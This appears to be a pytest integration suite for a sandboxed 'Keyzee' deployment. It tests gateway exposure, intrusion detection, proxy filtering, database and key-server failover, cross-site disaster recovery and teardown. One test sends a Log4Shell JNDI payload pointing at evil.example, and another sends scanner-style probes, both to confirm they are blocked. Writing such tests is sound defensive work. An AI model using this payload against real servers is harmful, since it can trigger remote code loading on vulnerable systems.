"""Keyzee in the sandbox, seen from outside. The checks run in this order, on one `up`."""

import json
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import architectures
from sandbox import GATEWAY
from stacks.clouds import Clouds
from stacks.deployed_stack import DeployedStack
from tests.stacks.running import credentials, make, open_ports, open_to_the_world, outputs, world
from tests.waiting import until

pytestmark = pytest.mark.sandbox
STACK, HOST = "keyzee", "www.keyzee.example"
GALERA = "galera.socket galera.service mariadb.service"
Machine = Callable[..., str]


@pytest.fixture(scope="module", name="up")
def _up() -> dict[str, Any]:
    """Keyzee, up, in the counts of `casebook:sandbox`. It stays so when a check fails, to be looked at."""
    make("up", STACK, timeout=3000)
    return outputs(STACK)


@pytest.fixture(scope="module", name="on")
def _on(up: dict[str, Any]) -> Machine:
    return DeployedStack(STACK, architectures.outputs("keyzee").model_validate(up)).on


def leads_to() -> str:
    """Where the world finds the service."""
    return world("dig", "+short", f"@{GATEWAY}", HOST).strip()


def ask(path: str, *options: str, scheme: str = "https") -> tuple[int, str]:
    """Status and body of an answer, for somebody in the world who follows the name; status 0 where there is none."""
    where = leads_to()
    resolved = [word for port in (80, 443) for word in ("--resolve", f"{HOST}:{port}:{where}")]
    said = world(
        *("curl", "-sk", "--max-time", "15", "-w", "\n%{http_code}", *resolved, *options, f"{scheme}://{HOST}{path}"),
        check=False,
    )
    body, _, status = said.rpartition("\n")
    return int(status or 0), body


def reserve(vehicle: str) -> bool:
    return ask("/reservations", "-d", vehicle) == (201, f"reserved {vehicle}\n")


def reserved() -> list[str]:
    status, body = ask("/reservations")
    return body.split() if status == 200 else []


def keep(photo: str) -> bool:
    return ask(f"/photos/{photo}", "--data-binary", f"jpeg {photo}")[0] == 201


def wait_for_tomcat(on: Machine, address: str) -> None:
    healthz = f"curl -s http://{address}:8080/healthz || true"
    until(lambda: "ready" in on("rbx-haproxy-1", healthz), f"{address} is not back", seconds=180)


def members(on: Machine, name: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(on(name, "sudo galera status"))["members"]
    return found


@pytest.mark.claim("KEY-1")
def test_the_world_sees_80_and_443_of_the_gateway_and_nothing_else(up: dict[str, Any]) -> None:
    gateways = up["gateways"]
    servers = [
        Clouds(credentials()).ovh(f"/dedicated/server/ns310000{n}.ip-198-18-16-{n}.eu")["ip"] for n in range(33, 39)
    ]
    found = open_ports([*gateways.values(), *servers])
    assert found.pop(gateways["rbx"]) == open_to_the_world(up, "rbx-gateway-1")
    assert found.pop(gateways["gra"]) == set(), "the second site rests"
    assert found == {address: set() for address in servers}
    assert leads_to() == gateways["rbx"]


@pytest.mark.claim("KEY-1")
def test_a_known_bad_request_raises_an_alert_and_is_dropped(on: Machine) -> None:
    assert ask("/", scheme="http")[0] == 301
    assert ask("/", "-H", "X-Api: ${jndi:ldap://evil.example/a}", scheme="http")[0] == 0
    asked = (
        'sudo grep -c \'"signature_id":9000002.*blocked\\|blocked.*"signature_id":9000002\' /var/log/suricata/eve.json'
    )
    assert until(lambda: on("rbx-gateway-1", f"{asked} || true").strip() not in ("", "0"), "no alert")


@pytest.mark.claim("KEY-1")
def test_what_goes_out_passes_the_gateway_too(on: Machine) -> None:
    for name in ("rbx-mobile-1", "rbx-db-1"):
        assert "via 10.12.0.2 " in on(name, f"ip route get {GATEWAY}")


@pytest.mark.claim("KEY-2")
def test_unwanted_requests_go_no_further_than_the_proxies(on: Machine) -> None:
    before = on("rbx-mobile-1", "sudo wc -l < /var/log/apache2/access.log")
    assert ask("/", "-X", "DELETE")[0] == 405
    assert ask("/.git/config")[0] == 403
    assert ask("/wp-admin/")[0] == 403
    assert ask("/", "-A", "nikto")[0] == 0
    log = on("rbx-mobile-1", f"sudo tail -n +{int(before) + 1} /var/log/apache2/access.log")
    assert not re.search(r"DELETE|\.git|wp-admin|nikto", log)


@pytest.mark.claim("KEY-2")
def test_haproxy_stops_sending_to_what_does_not_answer(on: Machine) -> None:
    for name, unit, path in (("rbx-proxy-1", "nginx", "/"), ("rbx-keys-1", "tomcat10", "/keys/")):
        on(name, f"sudo systemctl stop {unit}")
        try:
            time.sleep(5)
            assert [ask(path)[0] for _ in range(6)] == [200] * 6
        finally:
            on(name, f"sudo systemctl start {unit}")


@pytest.mark.claim("KEY-3")
def test_both_clusters_answer_and_a_key_survives_its_server(up: dict[str, Any], on: Machine, tmp_path: Path) -> None:
    cookies = str(tmp_path / "cookies")
    status, body = ask("/")
    assert (status, body.startswith("Keyzee, for 198.18.")) == (200, True), "clients keep their addresses"
    first = ask("/keys/", "-c", cookies)[1]
    key = re.fullmatch(r"key ([0-9a-f]{32})\nuse 1\n", first)
    assert key, first
    for uses, name in enumerate(("rbx-keys-1", "rbx-keys-2"), 2):
        on(name, "sudo systemctl stop tomcat10")
        try:
            time.sleep(5)
            assert ask("/keys/", "-b", cookies)[1] == f"key {key[1]}\nuse {uses}\n"
        finally:
            on(name, "sudo systemctl start tomcat10")
        wait_for_tomcat(on, up["machines"][name]["private"])


@pytest.mark.claim("KEY-4")
def test_one_database_server_lost_has_no_effect(on: Machine) -> None:
    assert reserve("before")
    on("rbx-db-1", "sudo systemctl kill --signal=KILL mariadb; sudo systemctl stop mariadb")
    try:
        until(lambda: reserve("without-db-1"), "no write")
        assert {"before", "without-db-1"} <= set(reserved())
    finally:
        on("rbx-db-1", "sudo systemctl start mariadb")
    until(
        lambda: all(one != "does not answer" and one["synced"] for one in members(on, "rbx-db-1").values()),
        "db-1 is not back",
        seconds=180,
    )
    assert "without-db-1" in on("rbx-db-1", "sudo mariadb -N keyzee -e 'select vehicle from reservations'")


@pytest.mark.claim("KEY-5")
def test_files_are_the_same_on_every_web_server(on: Machine) -> None:
    assert keep("shared")
    for name in ("rbx-mobile-1", "rbx-mobile-2"):
        assert on(name, "cat /srv/keyzee/shared.jpg") == "jpeg shared"


@pytest.mark.usefixtures("up")
def test_a_second_up_changes_nothing() -> None:
    assert " unchanged" in make("up", STACK, "--expect-no-changes")


@pytest.mark.claim("KEY-6")
def test_the_second_site_holds_the_same_and_is_ready(up: dict[str, Any], on: Machine) -> None:
    first, second = ([name for name in up["machines"] if name.startswith(f"{site}-")] for site in ("rbx", "gra"))
    assert len(second) < len(first)
    assert reserve("everywhere")
    asked = "sudo mariadb -N keyzee -e 'select vehicle from reservations'"
    until(lambda: "everywhere" in on("gra-db-3", asked), "the row is not in the second site")
    until(
        lambda: on("gra-mobile-1", "cat /srv/keyzee/shared.jpg || true") == "jpeg shared",
        "the file is not there",
        seconds=90,
    )
    status = json.loads(on("gra-conductor", "sudo drp status"))
    assert status["serves"] == "primary"
    assert status["records"] == [up["gateways"]["rbx"]]
    assert status["replica"]["follows"]
    assert status["replica"]["parts"]["gra-haproxy-1"] == {
        "part": "rest", "units": {"haproxy.service": False}, "files_copied": None
    }  # fmt: skip


@pytest.mark.claim("KEY-6")
def test_failover_and_failback_are_a_command_each_and_lose_nothing(up: dict[str, Any], on: Machine) -> None:
    gateways = up["gateways"]
    assert reserve("last-of-rbx")
    assert keep("last-of-rbx")
    print(on("gra-conductor", "sudo drp failover", timeout=600))
    until(lambda: leads_to() == gateways["gra"], "the name")
    assert "last-of-rbx" in reserved()
    assert ask("/photos/last-of-rbx") == (200, "jpeg last-of-rbx")
    assert re.match(r"key [0-9a-f]{32}\n", ask("/keys/")[1])
    until(lambda: reserve("first-of-gra"), "no write in the second site")
    assert keep("first-of-gra")
    assert open_ports([gateways["rbx"]], "80,443") == {gateways["rbx"]: set()}, "the first site rests"
    make("up", STACK, "--expect-no-changes")
    assert leads_to() == gateways["gra"]

    until(lambda: json.loads(on("gra-conductor", "sudo drp status"))["primary"]["follows"], "the first does not follow")
    print(on("gra-conductor", "sudo drp failback", timeout=600))
    until(lambda: leads_to() == gateways["rbx"], "the name")
    assert {"last-of-rbx", "first-of-gra"} <= set(reserved())
    assert ask("/photos/first-of-gra") == (200, "jpeg first-of-gra")
    until(lambda: reserve("rbx-again"), "no write in the first site")


@pytest.mark.claim("KEY-6")
def test_the_second_site_takes_over_when_the_first_is_lost(up: dict[str, Any], on: Machine) -> None:
    first = [name for name in up["machines"] if name.startswith("rbx-")]
    assert reserve("before-the-loss")
    databases = [name for name in first if "-db-" in name]
    asked = "sudo mariadb -N keyzee -e 'select vehicle from reservations'"
    until(lambda: "before-the-loss" in on("gra-db-1", asked), "the row is not in the second site")
    for name in databases:
        on(name, f"sudo systemctl kill --signal=KILL mariadb; sudo systemctl stop {GALERA}")
    began = time.monotonic()
    try:
        print(on("gra-conductor", "sudo drp failover", timeout=600))
        until(lambda: reserve("after-the-loss"), "no write in the second site")
        print(f"a write succeeds again {time.monotonic() - began:.0f} s after the loss")
        assert "before-the-loss" in reserved()
    finally:
        for name in databases:
            on(name, f"sudo systemctl start --no-block {GALERA}")
    until(
        lambda: json.loads(on("gra-conductor", "sudo drp status"))["primary"]["follows"],
        "the first does not follow",
        seconds=300,
    )
    on("gra-conductor", "sudo drp failback", timeout=600)
    assert {"before-the-loss", "after-the-loss"} <= set(reserved())


def test_destroy_leaves_an_empty_account(up: dict[str, Any]) -> None:
    make("destroy", STACK, "--ignore-protect", timeout=1800)
    clouds, project = Clouds(credentials()), credentials()["OVH_CLOUD_PROJECT_SERVICE"]
    for name in ("RBX-A", "GRA11"):
        region = clouds.openstack(name)
        assert list(region.compute.servers()) == []
        assert list(region.network.ports(project_id=project)) == []
    for path in (
        f"/cloud/project/{project}/network/private",
        "/vrack/pn-1005/cloudProject",
        "/vrack/pn-1005/dedicatedServerInterface",
        "/domain/zone/keyzee.example/record?subDomain=www",
        "/dedicated/nasha/zpool-000001/partition",
        "/dedicated/nasha/zpool-000002/partition",
        "/me/api/oauth2/client",
        "/v2/iam/policy",
    ):
        assert clouds.ovh(path) == [], path
    gateway = up["gateways"]["rbx"]
    assert world("curl", "-sk", "--max-time", "5", f"https://{gateway}/", check=False) == "", "the front still answers"
